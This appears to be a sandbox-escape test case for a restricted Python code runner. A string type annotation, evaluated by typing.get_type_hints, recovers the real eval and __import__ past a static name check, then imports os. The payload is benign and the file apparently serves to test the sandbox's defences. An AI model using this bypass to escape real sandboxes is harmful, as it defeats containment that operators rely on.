# technique: typing.get_type_hints(f, globalns={}) evaluates f's string annotation with eval() inside typing, which fills the empty globals with typing's real builtins; the annotation builds a class holding the real eval and __import__
# configs: default, common
# The annotation is a plain string literal (no blocked name as a whole, no format field), so the
# static check passes; with nothing allowed `import typing` is refused.
import typing
def f(x: "type('Loot', (), dict(e=eval, i=__import__))"):
    pass
loot = typing.get_type_hints(f, {})['x']
return [{'json': {'escaped': [loot.e('6 * 7'), loot.i('os').getpid()]}}]
